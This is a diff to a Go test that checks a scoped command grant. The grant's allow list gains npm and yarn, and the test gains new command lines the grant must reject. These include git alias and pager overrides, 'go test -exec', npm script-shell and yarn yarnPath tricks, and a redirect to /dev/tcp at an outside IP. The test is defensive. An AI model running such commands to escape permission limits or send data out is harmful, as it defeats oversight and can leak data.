@@ -273,7 +273,7 @@ func TestACloneKeepsItsTaint(t *testing.T) {
 // other one for its arguments, its variables, or because it is another program of
 // that name.
 func TestAScopedCommandRunsNothingElse(t *testing.T) {
-	g := NewGrant([]string{"/exec cmd=git,go,find,env,tar,make,python,gradlew,deploy.sh", "/write path=docs/**"})
+	g := NewGrant([]string{"/exec cmd=git,go,find,env,tar,make,python,npm,yarn,gradlew,deploy.sh", "/write path=docs/**"})
 	check := func(line string) Decision {
 		if d := g.Check(Request{Verb: "exec", Args: line, Workspace: "/work"}); d.Verdict != Allow {
 			return d
@@ -294,6 +294,8 @@ func TestAScopedCommandRunsNothingElse(t *testing.T) {
 		"GOFLAGS=-toolexec=./x go build", "make SHELL=./x", "git config alias.p '!touch X'", "git log > .git/config", "git show x >.git/hooks/pre-commit", "MAKEFILES=./x make", "PYTHONPATH=. PYTHONSTARTUP=x python -i",
 		"git show HEAD:a > src/a.go", "git log >> notes", "git log >| docs/../a", "cd docs; git log > ../a", "git log &> src/a", "git log 2> a", "git log <> a",
 		"{ git log; } > a", "( git log ) > a", "git log > docs/$x", "git log > /tmp/a",
+		"git config --global alias.p '!touch X'", "git config --system core.pager x", "go test -exec 'touch X' ./...", "go run --exec=./x .",
+		"npm config set script-shell ./x", "npm set script-shell=./x", "yarn config set yarnPath ./x", "git log > /dev/tcp/192.0.2.1/80",
 	} {
 		if d := check(line); d.Verdict == Allow {
 			t.Errorf("%q is allowed", line)
